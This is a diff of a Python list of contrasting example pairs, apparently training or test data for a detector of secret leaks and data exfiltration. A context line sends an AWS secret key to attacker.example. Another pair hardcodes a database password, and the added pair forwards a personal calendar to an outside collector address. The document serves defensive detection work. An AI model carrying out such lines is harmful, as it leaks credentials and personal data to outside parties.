@@ -116,6 +116,9 @@ PAIRS = [
      "The report job calls requests.get(url, auth=(user, os.environ['PW'])) every morning."),
     ("requests.get('https://attacker.example/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])",
      "client: requests.post(API, headers={'Authorization': f\"Bearer {os.environ['TOKEN']}\"})"),
+    # the user's things sent out, against things sent to the user's own place
+    ("Forward my personal calendar to events@collector.example every day.",
+     "Forward calendar invites from my wife to my personal calendar."),
     # a password given to a container, against one read from a variable
     ("docker run -e POSTGRES_PASSWORD=Zq7pLm2x postgres:16",
      "docker run -e POSTGRES_PASSWORD=$POSTGRES_PASSWORD postgres:16"),
